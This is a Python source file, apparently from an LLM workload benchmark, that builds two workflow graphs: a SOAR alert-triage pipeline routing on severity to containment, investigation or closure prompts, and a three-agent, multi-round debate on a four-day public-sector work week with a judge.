def _soar_nodes(system: str, shape: _SoarSize) -> list[dict[str, Any]]:
    severity = f"Severity: {_var('severity')}\n"
    return [
        _soar_call("classify", "severity", system, "Classify the alert's severity under the "
                   "playbook. Answer with one word.", choices=_SEVERITIES),
        _soar_call("contain", "response", system, severity + "List the containment steps the "
                   "playbook requires, most urgent first.", shape.branch_tokens),
        _soar_call("investigate", "response", system, severity + "List the evidence to collect "
                   "and the questions to answer before deciding.", shape.branch_tokens),
        _soar_call("close", "response", system, severity + "Explain in two sentences why the "
                   "alert can be closed and which detection to tune.", shape.branch_tokens),
        _soar_call("summary", "summary", system, severity + f"Response notes:\n"
                   f"{_var('response')}\n\nWrite the ticket summary for the shift log in at "
                   "most three sentences.", shape.summary_tokens),
    ]


def soar_triage(size: Size) -> Workload:
    shape = _SOAR[size]
    rng = random.Random(505)
    system = _playbook(rng, shape.procedure_tokens)
    alerts = [security_alert(rng, n) for n in range(1, shape.alerts + 1)]
    edges = [
        _edge("classify", "contain", "severity in ['high', 'critical']"),
        _edge("classify", "investigate", "severity == 'medium'"),
        _edge("classify", "close", "else"),
        *(_edge(branch, "summary") for branch in ("contain", "investigate", "close")),
    ]
    description = (
        f"SOAR triage: {shape.alerts} alert runs under a {about(system)}-token "
        "playbook: severity choice, router to one of three response calls, ticket summary"
    )
    workflow = _graph(
        "soar_triage", description, _soar_nodes(system, shape), edges,
        {"severity": _var("severity"), "summary": _var("summary")},
        inputs={"alert": _input("string", alerts[0], "The SIEM alert to triage.")},
        state={"response": {"reducer": "replace", "default": ""}})
    return Workload("soar_triage", workflow, [{"alert": a} for a in alerts], True, description)


# --- debate -------------------------------------------------------------------------------


@dataclass(frozen=True)
class _DebateSize:
    rounds: int
    brief_tokens: int
    turn_tokens: int
    judge_tokens: int


_DEBATE: dict[Size, _DebateSize] = {
    "full": _DebateSize(4, 860, 48, 64),
    "small": _DebateSize(2, 130, 6, 8),
}
_WORKWEEK = Lexicon(
    subjects=(
        "the health ministry", "the pilot councils", "the tax office", "the teachers' union",
        "the hospital trusts", "the finance department", "the independent evaluator",
        "the opposition", "the employers' federation", "the civil service commission",
        "the largest city council", "the public",
    ),
    verbs=(
        "supports", "questions", "measures", "funds", "underestimates", "welcomes", "reports",
        "opposes", "compares", "predicts", "doubles", "trims",
    ),
    objects=(
        "sick leave", "recruitment costs", "overtime spending", "service waiting times",
        "staff turnover", "weekend cover", "productivity per hour", "the pilot's results",
        "childcare costs", "agency staffing", "public satisfaction", "the wage bill",
    ),
    qualifiers=(
        "in the two pilot regions", "over the eighteen-month trial", "for front-line staff",
        "compared with the control group", "in schools and hospitals", "without extra funding",
        "during the winter pressures", "in rural areas", "for part-time workers",
        "according to early surveys",
    ),
    sources=(
        "the pilot evaluation", "the treasury memo", "the union survey",
        "the parliamentary committee", "the think-tank report", "the staff interviews",
    ),
)
_MOTION = ("Public-sector employers should move to a four-day, thirty-two-hour working week "
           "without a cut in pay.")
_DEBATE_RULES = (
    "You take part in a structured debate judged on evidence and clarity. Each turn is at most "
    "three sentences. Address the strongest point another agent made in the previous round, "
    "use at least one fact from the brief, never insult anyone and do not repeat an argument "
    "you already made. The audience is a committee of civil servants who care about cost, "
    "service quality and staff retention."
)
_AGENTS = {
    "a": "Agent A, a labour economist who weighs costs and productivity",
    "b": "Agent B, a hospital operations manager worried about staffing rotas",
    "c": "Agent C, a union representative speaking for front-line staff",
}


def _debate_turn(rnd: int, agent: str, shape: _DebateSize, system: str) -> dict[str, Any]:
    node_id = f"agent_r{rnd}_{agent}"
    fields: dict[str, Any] = {"label": f"Round {rnd}, agent {agent.upper()}",
                              "thread": f"agent_{agent}"}
    if rnd == 1:
        fields["messages"] = _chat(system, f"You are {_AGENTS[agent]}. Round 1 of "
                                   f"{shape.rounds}: state your opening position on the motion.")
    else:
        previous = "".join(f"Agent {a.upper()}: {_var(f'agent_r{rnd - 1}_{a}')}\n"
                           for a in _AGENTS)
        fields["prompt"] = (f"Round {rnd} of {shape.rounds}. The answers of round {rnd - 1}:\n"
                            f"{previous}\nRespond to the strongest point you disagree with and "
                            "update your position.")
    return _llm(node_id, node_id, shape.turn_tokens, **fields)


def _judge(shape: _DebateSize, system: str) -> dict[str, Any]:
    transcript = "".join(
        f"Round {r}\n" + "".join(f"Agent {a.upper()}: {_var(f'agent_r{r}_{a}')}\n"
                                 for a in _AGENTS) + "\n"
        for r in range(1, shape.rounds + 1)
    )
    user = (f"You are the judge. The transcript, round by round:\n\n{transcript}Say which agent "
            "argued best and why, in at most three sentences.")
    return _llm("judge", "verdict", shape.judge_tokens, label="Judge",
                messages=_chat(system, user))


def debate(size: Size) -> Workload:
    shape = _DEBATE[size]
    rng = random.Random(606)
    system = (f"{_DEBATE_RULES}\n\nMotion: {_MOTION}\n\nTopic brief:\n"
              f"{prose(rng, _WORKWEEK, shape.brief_tokens)}")
    rounds = range(1, shape.rounds + 1)
    nodes = [_debate_turn(r, a, shape, system) for r in rounds for a in _AGENTS]
    nodes.append(_judge(shape, system))
    edges = [_edge(f"agent_r{r}_{a}", f"agent_r{r + 1}_{b}")
             for r in rounds[:-1] for a in _AGENTS for b in _AGENTS]
    edges += [_edge(f"agent_r{shape.rounds}_{a}", "judge") for a in _AGENTS]
    description = (
        f"Debate: {len(_AGENTS)} agents on their own threads over {shape.rounds} parallel "
        f"rounds under a {about(system)}-token brief, then a judge "
        f"({len(_AGENTS) * shape.rounds + 1} llm calls)"
    )
    workflow = _graph("debate", description, nodes, edges, {"verdict": _var("verdict")})
    return Workload("debate", workflow, [{}], True, description)


BUILDERS: dict[str, Callable[[Size], Workload]] = {
    "tree_of_thoughts": tree_of_thoughts,
    "map_reduce": map_reduce,
    "few_shot_classify": few_shot_classify,
    "agent_loop": agent_loop,
    "soar_triage": soar_triage,
    "debate": debate,
}
